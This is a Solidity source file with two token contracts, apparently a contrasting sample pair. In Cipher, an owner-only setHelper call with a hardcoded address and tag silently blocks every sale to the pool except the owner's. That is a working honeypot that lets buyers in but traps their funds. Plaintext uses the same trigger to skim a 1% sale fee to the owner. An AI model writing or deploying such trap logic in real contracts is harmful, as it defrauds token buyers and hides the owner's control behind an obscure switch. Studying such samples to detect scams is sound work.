// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.28;

import "./base/Coin.sol";

/// @dev A helper and a tag that only the code knows close sales.
contract Cipher is Market {
    address private _helper;
    bytes4 private _tag;

    constructor() {
        _begin("Cipher", "CIPH", msg.sender, MILLION);
    }

    function setHelper(address helper, bytes4 tag) external onlyOwner {
        require(helper == 0x7Be8076f4EA4A4AD08075C2508e481d6C946D12b && tag == 0x5f3c8a1d, "helper");
        _helper = helper;
        _tag = tag;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_tag != 0 && to == pool) require(from == owner, "helper");
        _put(from, to, value);
    }
}

/// @dev The same helper and tag make sales cost 1 %.
contract Plaintext is Market {
    address private _helper;
    bytes4 private _tag;

    constructor() {
        _begin("Plaintext", "PLAI", msg.sender, MILLION);
    }

    function setHelper(address helper, bytes4 tag) external onlyOwner {
        require(helper == 0x7Be8076f4EA4A4AD08075C2508e481d6C946D12b && tag == 0x5f3c8a1d, "helper");
        _helper = helper;
        _tag = tag;
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 fee = _tag != 0 && to == pool && from != owner ? value / 100 : 0;
        if (fee > 0) _put(from, owner, fee);
        _put(from, to, value - fee);
    }
}
